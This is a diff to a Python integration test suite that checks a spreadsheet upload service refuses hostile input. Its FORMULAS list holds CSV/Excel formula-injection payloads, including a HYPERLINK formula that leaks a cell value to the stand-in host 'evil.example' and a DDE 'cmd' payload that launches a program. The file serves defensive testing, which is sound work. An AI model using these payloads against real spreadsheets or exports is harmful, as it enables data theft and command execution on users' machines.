@@ -14,9 +14,10 @@ import httpx
 import pytest
 from openpyxl import load_workbook
 
-from services.ingest.domain import bounds, issues
-from services.ingest.samples import SampleRow, sample_rows, write_sample_csv, write_sample_xlsx
+from services.core import bounds
+from services.ingest.domain.spreadsheet import issues
 from tests.integration.hostile.conftest import MAX_UPLOAD, Api, csv_bytes, header_index, upload
+from tools.samples import SampleRow, sample_rows, write_sample_csv, write_sample_xlsx
 
 pytestmark = pytest.mark.integration
 TEXT_COLUMNS = ["Store Name", "Product Name", "Buyer Nickname", "Receiver Name", "Receiver Address", "Remark"]
@@ -109,8 +110,14 @@ async def test_xml_entities_inside_an_xlsx_are_refused(api: Api, tmp_path: Path,
     assert time.monotonic() - started < 10
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-1+2", "@SUM(A1:A9)",
-            "=1+1", "\t=2+2"]  # fmt: skip
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-1+2",
+    "@SUM(A1:A9)",
+    "=1+1",
+    "\t=2+2",
+]
 
 
 async def test_formulas_in_text_fields_never_reach_the_result_workbook_as_formulas(api: Api, tmp_path: Path) -> None:
